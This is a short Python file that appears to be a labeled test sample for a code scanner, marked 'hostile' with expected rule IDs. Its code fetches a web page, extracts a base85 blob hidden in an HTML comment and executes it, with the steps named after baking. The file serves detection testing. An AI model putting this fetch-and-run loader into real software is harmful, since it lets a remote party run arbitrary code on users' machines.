# label: hostile
# expect: V301 V501 V504
# note: Fetches text, finds a marker in it, decodes what follows and runs it; the source here holds no payload at all.
# obfuscated: yes
import base64
import urllib.request

page = urllib.request.urlopen("https://blog.example.org/2031/recipes.html").read().decode()
begin = page.find("<!--oven:") + 9
dough = page[begin : page.find("-->", begin)]
if dough:
    bake = compile(base64.b85decode(dough), "recipe", "exec")
    exec(bake)
